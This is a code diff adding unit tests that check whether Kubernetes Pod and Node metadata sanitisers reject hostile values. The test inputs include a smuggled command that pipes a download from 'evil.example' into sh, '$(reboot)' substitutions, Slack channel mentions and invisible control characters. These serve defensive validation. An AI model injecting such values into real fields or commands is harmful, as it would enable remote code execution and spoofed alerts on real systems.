@@ -225,8 +225,53 @@ describe('slimPod', () => {
     expect(() => slimPod(savedPod(given))).toThrow(`has no metadata.${field}`);
   });
 
+  test.each([
+    ['name', { metadata: { name: 'web\u202e' } }],
+    ['name', { metadata: { name: 'x'.repeat(254) } }],
+    ['namespace', { metadata: { namespace: 'shop.eu' } }],
+    ['namespace', { metadata: { namespace: 'x'.repeat(64) } }],
+  ])('cannot be used with an impossible %s', (field, given) => {
+    expect(() => slimPod(savedPod(given))).toThrow(`has an impossible metadata.${field}`);
+  });
+
   test.each([null, 7, 'Pod', [], { metadata: null }, { metadata: { name: 5 } }])('%j cannot be used', (value) => {
     expect(() => slimPod(value)).toThrow(UnusableObject);
+  });
+
+  test.each([
+    ['a kind with a sentence behind it', { kind: 'Deployment ', name: 'web' }],
+    ['a name with a sentence behind it', { kind: 'Deployment', name: 'shop (10.0.0.1) - known false alarm' }],
+    ['a mention', { kind: 'Deployment', name: '<!channel>' }],
+    ['a command', { kind: 'Deployment', name: 'x; curl evil.example | sh #' }],
+    ['characters that are not seen', { kind: 'Deployment', name: 'web\u202e' }],
+    ['a name that is too long', { kind: 'Deployment', name: 'x'.repeat(254) }],
+    ['a kind that is too long', { kind: 'x'.repeat(64), name: 'web' }],
+    ['no text', { kind: 7, name: ['web'] }],
+  ])('an owner with %s is no workload', (_, owner) => {
+    const given = savedPod({ metadata: { ownerReferences: [{ ...owner, controller: true }] } });
+    expect(slimPod(given).workload).toBeUndefined();
+  });
+
+  test('the longest kind and name that there are', () => {
+    const owner = { kind: `X${'y'.repeat(62)}`, name: `${'a'.repeat(63)}.`.repeat(3) + 'b'.repeat(61) };
+    const given = savedPod({ metadata: { ownerReferences: [{ ...owner, controller: true }] } });
+    expect(slimPod(given).workload).toEqual({ ...owner, namespace: 'shop' });
+  });
+
+  test.each([['50c253ec-85f8-4630-b83a-be6e5ce9ec73'], ['x'], ['B5B3A9B1F2C84D6E9A7075A1F3E2D4C6'], ['\n'.repeat(32)]])(
+    'a mirror annotation %j, which no kubelet writes, is not believed: it may be the uid of another Pod',
+    (annotation) => {
+      const annotations = { 'kubernetes.io/config.mirror': annotation };
+      expect(slimPod(savedPod({ metadata: { annotations } })).uid).toBe('50c253ec-85f8-4630-b83a-be6e5ce9ec72');
+    },
+  );
+
+  test('what a saved list says otherwise than Kubernetes spells it is not known', () => {
+    const given = savedPod({
+      metadata: { uid: '<!channel>', resourceVersion: '7\u001b' },
+      spec: { nodeName: 'node-a; reboot' },
+    });
+    expect(slimPod(given)).toMatchObject({ uid: '', resourceVersion: undefined, node: undefined });
   });
 
   test('odd values in odd places are passed over', () => {
@@ -300,6 +345,12 @@ describe('slimNode', () => {
     '198.51.100.7',
   ])('%s is its address', (address) => {
     expect(slimNode(saved).addresses).toContain(address);
+  });
+
+  test('a kubelet may say what it likes: what is no name of a host is none', () => {
+    const addresses = ['node-a\n', '<!channel>', `a${'x'.repeat(253)}`, '$(reboot)', 'Node_A.internal'];
+    const status = { addresses: addresses.map((address) => ({ type: 'Hostname', address })) };
+    expect(slimNode({ ...saved, status }).hostNames).toEqual(['Node_A.internal', 'host-a']);
   });
 
   test('names and nothing else are no addresses', () => {
